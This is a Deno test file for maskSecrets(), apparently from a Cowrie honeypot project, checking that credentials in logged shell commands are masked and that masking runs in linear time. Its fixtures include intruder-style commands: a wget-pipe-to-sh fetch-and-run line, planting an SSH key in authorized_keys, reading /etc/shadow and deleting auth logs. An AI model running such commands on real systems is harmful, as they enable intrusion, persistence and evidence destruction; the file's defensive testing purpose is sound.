import assert from "node:assert/strict";
import { maskSecrets } from "../../src/cowrie/session_secrets.ts";

Deno.test("maskSecrets() takes passwords out of commands that set or pass them", () => {
  const masked: Readonly<Record<string, string>> = {
    'echo "root:hunter2"|chpasswd|bash': "echo *** |chpasswd|bash",
    "echo root:hunter2 | sudo chpasswd": "echo *** | sudo chpasswd",
    'echo -e "old\\nhunter2\\nhunter2"|passwd': "echo -e *** |passwd",
    'printf "a|b;c&hunter2" | /usr/bin/passwd root': "printf *** | /usr/bin/passwd root",
    "cd /; echo hunter2 | busybox passwd --stdin root":
      "cd /; echo *** | busybox passwd --stdin root",
    "echo hunter2 | sudo -S id": "echo *** | sudo -S id",
    "chpasswd <<< root:hunter2": "chpasswd <<< ***",
    "chpasswd <<EOF\nroot:hunter2\nEOF": "chpasswd <<EOF ***",
    "wget http://u:hunter2@203.0.113.9/x": "wget http://***@203.0.113.9/x",
    "curl -u admin:hunter2 http://203.0.113.9": "curl -u *** http://203.0.113.9",
    "curl --user 'admin:hunter2' x": "curl --user *** x",
    "wget --password=hunter2 --user=a x": "wget --password=*** --user=a x",
    "tool --http-password 'hunter2 x' y": "tool --http-password *** y",
    "tool --token hunter2": "tool --token ***",
    "sshpass -p hunter2 ssh root@203.0.113.9": "sshpass -p*** ssh root@203.0.113.9",
    "sshpass -phunter2 ssh root@203.0.113.9": "sshpass -p*** ssh root@203.0.113.9",
    "mysql -uroot -phunter2 -e 'show databases'": "mysql -uroot -p*** -e 'show databases'",
    "useradd -m -p hunter2 bob": "useradd -m -p *** bob",
    "redis-cli -h a -a hunter2 info": "redis-cli -h a -a *** info",
    "openssl passwd -1 hunter2": "openssl passwd -1 ***",
    "PGPASSWORD=hunter2 psql": "PGPASSWORD=*** psql",
    "export AWS_SECRET_ACCESS_KEY=hunter2": "export AWS_SECRET_ACCESS_KEY=***",
    "curl 'http://a/?token=hunter2&x=1'": "curl 'http://a/?token=***&x=1'",
    "curl -H 'Authorization: Bearer hunter2' a": "curl -H 'Authorization: *** ***' a",
    'curl -d \'{"password": "hunter2"}\' a': "curl -d '{\"password\": ***}' a",
    "git clone https://ghp_0123456789abcdefghij0123456789abcdef@github.com/a/b":
      "git clone https://***@github.com/a/b",
    "x AKIAABCDEFGHIJKLMNOP": "x ***",
    "bot 1234567890:AAabcdefghijklmnopqrstuvwxyz0123456": "bot ***",
  };
  for (const [command, expected] of Object.entries(masked)) {
    assert.equal(maskSecrets(command), expected);
  }
});

Deno.test("maskSecrets() leaves commands alone that have no secret", () => {
  for (
    const command of [
      "uname -a",
      "mkdir -p /tmp/.x; cd /tmp/.x",
      "ssh -p 2222 root@203.0.113.9",
      "netstat -p tcp",
      "cat /etc/passwd | grep root",
      "echo ok | cat; passwd root",
      "cat /etc/shadow",
      "which passwd chpasswd",
      "wget http://203.0.113.9/x.sh -O- | sh",
      "ls -la /home; ps aux | grep -v auth",
      'echo "ssh-rsa AAAAB3NzaC1yc2E= a" >> .ssh/authorized_keys',
      "kill -9 $(pgrep -f bot); rm -rf /var/log/auth.log",
    ]
  ) assert.equal(maskSecrets(command), command);
});

Deno.test("maskSecrets() takes time in proportion to the command", () => {
  for (
    const part of [
      "echo a|passwd ",
      '"',
      "-p ",
      "pass",
      "a:",
      "://",
      "<<<passwd ",
      "htpasswd -b ",
      "|sudo -a ",
    ]
  ) {
    const of = (times: number) => {
      const text = part.repeat(times).slice(0, 64 * 1024);
      const begun = performance.now();
      maskSecrets(text);
      return performance.now() - begun;
    };
    assert.ok(of(65_536) < 4_000, part);
  }
});
